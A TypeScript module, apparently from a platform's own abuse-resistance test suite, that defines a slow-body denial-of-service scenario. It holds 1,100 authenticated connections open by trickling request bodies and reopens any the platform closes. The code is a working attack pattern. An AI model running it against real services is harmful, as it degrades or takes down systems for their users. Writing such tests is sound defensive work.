import { once } from "node:events";
import { connect, type Socket } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import type { PrepareAttack } from "./attack";

const connections = 1_100;

/** Begins requests whose bodies never come; those that the platform ends are begun again. */
export const slowBodies: PrepareAttack = async ({ url, attacker }) => ({
    name: `${connections} bodies of one user that trickle, from the tenant's own address`,
    begin: async () => {
        const { hostname, port } = new URL(url);
        const head = `POST /api/v1/user HTTP/1.1\r\nHost: x\r\nsection-token: ${attacker.token}\r\nContent-Length: 100000\r\n\r\n{`;
        const sockets = new Set<Socket>();
        let isEnded = false;
        const begin = async (): Promise<void> => {
            const socket = connect(Number(port), hostname);
            sockets.add(socket);
            socket.on("error", () => {}); // ended by the platform, which is the point
            socket.once("close", () => {
                sockets.delete(socket);
                if (!isEnded) setTimeout(() => void begin(), 100);
            });
            await Promise.race([once(socket, "connect"), once(socket, "close")]);
            socket.write(head);
        };
        await Promise.all(Array.from({ length: connections }, begin));
        const trickle = setInterval(() => {
            for (const socket of sockets) if (socket.writable) socket.write(" ");
        }, 500);
        return {
            end: async () => {
                isEnded = true;
                clearInterval(trickle);
                for (const socket of sockets) socket.destroy();
                await sleep(500); // the platform hears of it
            },
        };
    },
    mostLogLines: 6 * connections, // two for each that is turned away, and one for each that was slow
});
